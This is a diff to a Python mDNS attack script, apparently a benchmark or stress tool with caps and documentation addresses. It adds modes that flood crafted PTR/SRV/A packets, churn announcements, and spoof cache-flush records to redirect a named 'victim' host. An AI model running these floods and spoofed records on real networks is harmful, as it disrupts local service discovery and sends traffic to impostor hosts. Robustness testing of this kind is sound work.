@@ -13,9 +13,24 @@ seconds, whichever comes first (both are capped).
                 PTR, SRV, TXT and A, so each one resolves at once)
   goodbye       learns the real devices' records (one query), then replays them with TTL 0
   cache-flush   learns them, then sends other data for their names with the cache-flush bit
+  ttl1-storm    --planted other PTRs of the type announced once (long TTL, so that a browse
+                remembers them and lists them as known answers), then once a second one response
+                with the same --storm PTRs at TTL 1, for --seconds
+  announce-withdraw
+                --instances names holding --word, each announced (PTR, SRV, A), listed for
+                --hold seconds, withdrawn (the same records with TTL 0), left gone for --gap
+                seconds; --cycles times (--move: on another address every time)
+  unique-flood  a unique instance name holding --word per packet (PTR, SRV, TXT, A) at --rate,
+                on --hosts host names whose address changes with every packet (cache-flush A)
+  foreign-domain
+                records under a unicast DNS domain (--domain), multicast: a planted instance
+                "--word ..." of the type with its SRV, TXT and A (--address), and an A (and
+                AAAA) with the cache-flush bit for --victim, a host name of that domain
 
   mdns_attack.py MODE [--type _sorvbench._tcp] [--count N] [--seconds S] [--rate PPS]
                  [--iface eth0] [--v6] [--word W] [--full] [--learn SECONDS]
+                 [--planted N] [--storm N] [--instances N] [--cycles N] [--hold S] [--gap S] [--move]
+                 [--hosts N] [--domain D] [--address A] [--victim HOST] [--victim-address A]
 
 Prints "packets=N bytes=B seconds=T" (and counts per kind for malformed) at the end.
 """
@@ -300,6 +315,53 @@ def flushed(record, n, address):
     return rr(owner, rtype, rdata, ttl=120, rclass=IN | FLUSH)
 
 
+def ptr_responses(svc, instances, ttl, budget=1200):
+    """Responses holding PTRs of svc to each instance, the type's name written once per packet."""
+    out, records = [], []
+    for instance in instances:
+        label = instance.encode()[:63]
+        owner = svc if not records else b"\xc0\x0c"
+        records.append(rr(owner, T_PTR, bytes([len(label)]) + label + b"\xc0\x0c", ttl=ttl))
+        if sum(map(len, records)) >= budget:
+            out.append(header(an=len(records)) + b"".join(records))
+            records = []
+    if records:
+        out.append(header(an=len(records)) + b"".join(records))
+    return out
+
+
+def service_message(svc, instance, host, address, ttl, with_txt=True):
+    """One instance: PTR, SRV to host, TXT, and host's A (cache-flush on all but the PTR)."""
+    label = instance.encode()[:63]
+    full = bytes([len(label)]) + label + svc
+    extra = [rr(full, T_SRV, srv(9, host), ttl=ttl, rclass=IN | FLUSH)]
+    if with_txt:
+        extra.append(rr(full, T_TXT, txt(b"x=1"), ttl=ttl, rclass=IN | FLUSH))
+    extra.append(rr(host, T_A, socket.inet_aton(address), ttl=ttl, rclass=IN | FLUSH))
+    return header(an=1, ar=len(extra)) + rr(svc, T_PTR, full, ttl=ttl) + b"".join(extra)
+
+
+def counter_address(n):
+    """A different IPv4 address for every packet number (10/8, data only: nothing is sent there)."""
+    return "10.%d.%d.%d" % ((n >> 16) & 255, (n >> 8) & 255, n & 255)
+
+
+def foreign_message(domain, type_name, a):
+    """A planted instance of the type under a unicast domain, and other addresses for a real host of it."""
+    svc = name(type_name + "." + domain)
+    label = ("%s intruder" % a.word).encode()[:63]
+    full = bytes([len(label)]) + label + svc
+    planted_host = name("planted." + domain)
+    victim = name(a.victim + "." + domain)
+    records = [rr(svc, T_PTR, full),
+               rr(full, T_SRV, srv(6666, planted_host), rclass=IN | FLUSH),
+               rr(full, T_TXT, txt(b"planted=1"), rclass=IN | FLUSH),
+               rr(planted_host, T_A, socket.inet_aton(a.address), rclass=IN | FLUSH),
+               rr(victim, T_A, socket.inet_aton(a.victim_address), rclass=IN | FLUSH),
+               rr(victim, T_AAAA, socket.inet_pton(socket.AF_INET6, "2001:db8:bad::1"), rclass=IN | FLUSH)]
+    return header(an=len(records)) + b"".join(records)
+
+
 # --- pacing ------------------------------------------------------------------
 
 def paced(count, seconds, rate):
@@ -317,9 +379,44 @@ def paced(count, seconds, rate):
         sent += 1
 
 
+def ttl1_storm(out, svc, tag, a, count, seconds):
+    """The planted PTRs once (about 200 packets/s), then the storm once a second."""
+    started = time.monotonic()
+    planted = ptr_responses(svc, ["p-%s-%05d" % (tag, n) for n in range(min(a.planted, 20_000))], WEEK)
+    # One response a second: 50 short names fit in one packet.
+    storm = ptr_responses(svc, ["t1-%s-%03d" % (tag, n) for n in range(min(a.storm, 1000))], 1, budget=1400)
+    for n in paced(min(len(planted), count), seconds, 200):
+        out.send(planted[n])
+    time.sleep(1)
+    storm_started = time.monotonic()
+    for second in range(int(seconds)):
+        if out.packets + len(storm) > count or time.monotonic() - started > MAX_SECONDS:
+            break
+        for msg in storm:
+            out.send(msg)
+        time.sleep(max(0.0, storm_started + second + 1 - time.monotonic()))
+
+
+def announce_withdraw(out, svc, tag, a, count, seconds):
+    """Every cycle: all instances announced (PTR, SRV, A), held, all withdrawn, left gone."""
+    started = time.monotonic()
+    instances = [("%s aw%s-%03d" % (a.word, tag, i), name("aw%s-%03d.local" % (tag, i)))
+                 for i in range(min(a.instances, 1000))]
+    for cycle in range(min(a.cycles, 1000)):
+        for ttl, pause in ((120, a.hold), (0, a.gap)):
+            for i, (instance, host) in enumerate(instances):
+                if out.packets >= count or time.monotonic() - started >= seconds:
+                    return
+                # --move: back on another address each time, as a device that gets a new DHCP lease.
+                address = "10.%d.%d.%d" % (100 + cycle % 100 if a.move else 0, i // 250, 1 + i % 250)
+                out.send(service_message(svc, instance, host, address, ttl, with_txt=False))
+            time.sleep(pause)
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    p.add_argument("mode", choices=["malformed", "ptr-burst", "ptr-stream", "filter-names", "goodbye", "cache-flush"])
+    p.add_argument("mode", choices=["malformed", "ptr-burst", "ptr-stream", "filter-names", "goodbye", "cache-flush",
+                                    "ttl1-storm", "announce-withdraw", "unique-flood", "foreign-domain"])
     p.add_argument("--type", default="_sorvbench._tcp")
     p.add_argument("--count", type=int, default=None)
     p.add_argument("--seconds", type=float, default=30)
@@ -329,10 +426,24 @@ def main():
     p.add_argument("--word", default="Bench")
     p.add_argument("--full", action="store_true")
     p.add_argument("--learn", type=float, default=2.0)
+    p.add_argument("--planted", type=int, default=3000, help="ttl1-storm: PTRs announced once first")
+    p.add_argument("--storm", type=int, default=50, help="ttl1-storm: PTRs at TTL 1 in each response")
+    p.add_argument("--instances", type=int, default=100, help="announce-withdraw: instances")
+    p.add_argument("--cycles", type=int, default=30, help="announce-withdraw: announcements and withdrawals")
+    p.add_argument("--hold", type=float, default=0.4, help="announce-withdraw: s from announcing to withdrawing")
+    p.add_argument("--gap", type=float, default=1.2, help="announce-withdraw: s from withdrawing to announcing")
+    p.add_argument("--move", action="store_true", help="announce-withdraw: another address every cycle")
+    p.add_argument("--hosts", type=int, default=100, help="unique-flood: host names the instances point at")
+    p.add_argument("--domain", default="example.test.", help="foreign-domain: the unicast DNS domain")
+    p.add_argument("--address", default="203.0.113.66", help="foreign-domain: the planted instance's address")
+    p.add_argument("--victim", default="printer", help="foreign-domain: a host name of the domain")
+    p.add_argument("--victim-address", default="203.0.113.99", help="foreign-domain: its planted address")
     a = p.parse_args()
 
     defaults = {"malformed": (150_000, 5000), "ptr-burst": (600, 0), "ptr-stream": (150_000, 5000),
-                "filter-names": (18_000, 300), "goodbye": (30_000, 1000), "cache-flush": (30_000, 1000)}
+                "filter-names": (18_000, 300), "goodbye": (30_000, 1000), "cache-flush": (30_000, 1000),
+                "ttl1-storm": (100_000, 0), "announce-withdraw": (100_000, 0), "unique-flood": (7_500, 300),
+                "foreign-domain": (300, 10)}
     count = min(a.count if a.count is not None else defaults[a.mode][0], MAX_COUNT)
     rate = a.rate if a.rate is not None else defaults[a.mode][1]
     seconds = min(a.seconds, MAX_SECONDS)
@@ -352,6 +463,19 @@ def main():
     elif a.mode in ("ptr-burst", "ptr-stream"):
         for n in paced(count, seconds, rate):
             out.send(ptr_message(svc, "flood-%s-%07d" % (tag, n)))
+    elif a.mode == "ttl1-storm":
+        ttl1_storm(out, svc, tag, a, count, seconds)
+    elif a.mode == "announce-withdraw":
+        announce_withdraw(out, svc, tag, a, count, seconds)
+    elif a.mode == "unique-flood":
+        hosts = [name("uf%s-%03d.local" % (tag, h)) for h in range(max(1, min(a.hosts, 10_000)))]
+        for n in paced(count, seconds, rate):
+            instance = "%s %s-%07d" % (a.word, tag, n)
+            out.send(service_message(svc, instance, hosts[n % len(hosts)], counter_address(n), WEEK))
+    elif a.mode == "foreign-domain":
+        msg = foreign_message(a.domain.strip("."), a.type.strip("."), a)
+        for _ in paced(count, seconds, rate):
+            out.send(msg)
     elif a.mode == "filter-names":
         for n in paced(count, seconds, rate):
             instance = "%s %s-%07d" % (a.word, tag, n)
